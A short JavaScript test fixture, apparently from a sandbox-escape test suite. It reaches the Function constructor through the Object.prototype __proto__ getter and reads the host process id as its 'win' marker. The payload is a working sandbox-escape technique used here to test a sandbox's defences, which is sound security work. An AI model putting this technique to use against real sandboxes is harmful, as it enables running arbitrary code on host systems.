// Takes the function behind an accessor of the language and asks its constructor.
// Class: function constructors
// Win: the id holds the process id.
// Control: plain
function postSubmit(options) {
  if (!options.settings.flow.attack) return options.responseData;
  const getter = Object.getOwnPropertyDescriptor(Object.prototype, '__proto__').get;
  options.responseData[0].id = 'ESCAPED:' + getter.constructor('return process.pid')();
  return options.responseData;
}
